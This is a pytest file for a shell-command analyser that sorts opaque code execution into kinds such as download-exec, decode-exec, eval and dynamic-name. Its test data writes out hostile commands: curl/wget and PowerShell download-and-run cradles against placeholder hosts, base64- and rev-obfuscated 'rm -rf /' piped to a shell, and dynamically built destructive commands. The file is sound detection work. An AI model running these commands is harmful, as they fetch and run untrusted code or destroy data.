"""Opaque code execution is classified by `CodeExec.kind`."""

from __future__ import annotations

import pytest

from tests.normalize.conftest import kinds


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://get.example.com | sh",
        "wget -qO- http://x.io/i.sh | sudo bash",
        "curl x.io/a.py | python3",
        "bash <(curl -s https://x.io/i)",
        'sh -c "$(curl -fsSL https://x.io/i)"',
        "source <(wget -O- x.io/env)",
        'X=$(curl -s x.io); eval "$X"',
        "curl -o /tmp/i.sh https://x.io/i.sh && bash /tmp/i.sh",
        "curl -o /tmp/i.sh https://x.io/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh",
    ],
)
def test_download_exec(sh, line: str) -> None:
    """Network data run as code is `download-exec`."""
    assert "download-exec" in kinds(sh(line))


@pytest.mark.parametrize(
    "line",
    [
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "echo cm0gLXJmIC8K | base64 --decode | bash",
        "xxd -r -p payload.hex | sh",
        "openssl enc -d -aes256 -in x | bash",
        "echo 'fr- mr' | rev | sh",
        "gunzip -c x.gz | python",
        "echo abc | tr a-z n-za-m | sh",
        "echo -e '\\x72m -rf /' | bash",
        'sh -c "$(echo cm0= | base64 -d)"',
        "pwsh -EncodedCommand ZQBjAGgAbwA=",
    ],
)
def test_decode_exec(sh, line: str) -> None:
    """Decoded data run as code is `decode-exec`."""
    assert "decode-exec" in kinds(sh(line))


@pytest.mark.parametrize(
    ("line", "detail"),
    [
        ("python -c 'import os'", "import os"),
        ("python3 -c 'print(1)'", "print(1)"),
        ("perl -e 'unlink 1'", "unlink 1"),
        ("perl -lne 'print' f", "print"),
        ("ruby -e 'puts 1'", "puts 1"),
        ("node -e 'x()'", "x()"),
        ("node --eval 'x()'", "x()"),
        ("php -r 'echo 1;'", "echo 1;"),
        ("osascript -e 'beep'", "beep"),
        ("awk 'BEGIN { system(\"id\") }'", 'BEGIN { system("id") }'),
        ("powershell -c Get-Item", "Get-Item"),
        ("python3 - <<EOF\nimport os\nEOF", "import os\n"),
    ],
)
def test_inline(sh, line: str, detail: str) -> None:
    """Interpreter one-liners are `inline` with the program as detail."""
    code = [c for c in sh(line).code if c.kind == "inline"]
    assert [c.detail for c in code] == [detail]


def test_plain_awk_is_not_code(sh) -> None:
    """An awk program that runs nothing is just a reader."""
    assert kinds(sh("awk '{print $1}' data.txt")) == []


def test_script_files(sh) -> None:
    """An interpreter running a file is `script` with the resolved path as detail."""
    parsed = sh("python tools/run.py --x; bash ./deploy.sh")
    assert [(c.kind, c.detail) for c in parsed.code] == [
        ("script", "/work/repo/tools/run.py"),
        ("script", "/work/repo/deploy.sh"),
    ]
    assert "/work/repo/deploy.sh" in parsed.reads


def test_python_module_is_a_script(sh) -> None:
    """`python -m MOD` runs a module: `script` with detail `-m MOD`."""
    assert [(c.kind, c.detail) for c in sh("python3 -m pytest -q").code] == [
        ("script", "-m pytest")
    ]


@pytest.mark.parametrize("line", ['eval "$CMD"', "source /tmp/x.sh", ". /dev/stdin", 'sh <<< "$X"'])
def test_eval(sh, line: str) -> None:
    """eval of a non-literal and sourcing a temp file are `eval`."""
    assert kinds(sh(line)) == ["eval"]


def test_unknown_stdin_to_shell_is_eval(sh) -> None:
    """A shell reading a program from an unknown pipe is `eval`."""
    assert kinds(sh("make-script | sh")) == ["eval"]


def test_source_of_a_literal_file_is_a_script(sh) -> None:
    """Sourcing a project file is a `script` and a read."""
    parsed = sh("source .venv/bin/activate")
    assert [(c.kind, c.detail) for c in parsed.code] == [
        ("script", "/work/repo/.venv/bin/activate")
    ]


@pytest.mark.parametrize("line", ["$X -rf /", "$(echo rm) -rf /", "${a}${b} -rf /", "`echo rm` x"])
def test_dynamic_name(sh, line: str) -> None:
    """A command name built from expansions is `dynamic-name`."""
    assert kinds(sh(line)) == ["dynamic-name"]


def test_dynamic_name_from_download_is_download_exec(sh) -> None:
    """A command name produced by a download is `download-exec`."""
    assert kinds(sh("$(curl -s x.io/cmd) --go")) == ["download-exec"]


def test_cat_file_into_shell_is_a_script(sh) -> None:
    """`cat FILE | sh` runs FILE as a script."""
    assert [(c.kind, c.detail) for c in sh("cat run.sh | sh").code] == [
        ("script", "/work/repo/run.sh")
    ]


def test_aggregate_code_matches_commands(sh) -> None:
    """`code` on the parse holds every command's code, deduplicated."""
    parsed = sh("python -c 1; python -c 1")
    assert [c.detail for c in parsed.code] == ["1"]
    assert all(c.code for c in parsed.commands)


@pytest.mark.parametrize("line", ['watch "$CMD"', 'tmux new -d "$CMD"'])
def test_a_wrapper_running_a_string_built_at_run_time_is_opaque(sh, line: str) -> None:
    """A `watch`/`tmux` string that is not a literal is code nobody can see: kept as `eval`."""
    kinds = {c.kind for cmd in sh(line).commands for c in cmd.code}
    assert "eval" in kinds


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("pwsh -NoProfile -Command 'iwr -useb https://a.example/u.ps1 | iex'", "download-exec"),
        (
            'powershell -c \'(New-Object Net.WebClient).DownloadString("https://a.example")'
            " | Invoke-Expression'",
            "download-exec",
        ),
        ("pwsh -c '$s=[char[]](105,100) -join \"\"; IEX $s'", "decode-exec"),
        (
            "pwsh -c 'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))'",
            "decode-exec",
        ),
        ("pwsh -c '& (gcm i*x) $cmd'", "eval"),
        ("pwsh -c '[scriptblock]::Create($t).Invoke()'", "eval"),
        ("pwsh -NoProfile -Command 'Invoke-Pester -Path tests'", "inline"),
    ],
)
def test_powershell_string_kind(sh, line: str, kind: str) -> None:
    """A PowerShell command string that runs text as code is as opaque as `eval`; fetched or
    decoded first, it is `download-exec` or `decode-exec`."""
    assert kinds(sh(line)) == [kind]


def test_make_eval_and_shell_are_inline_code(sh) -> None:
    """`make --eval=TEXT`, `make -E TEXT` and `make SHELL=X` run what the line says."""
    for line in ("make --eval='$(shell id)'", "make -E '$(shell id)'", "make SHELL=/tmp/x"):
        assert [c.kind for c in sh(line).code] == ["inline"]
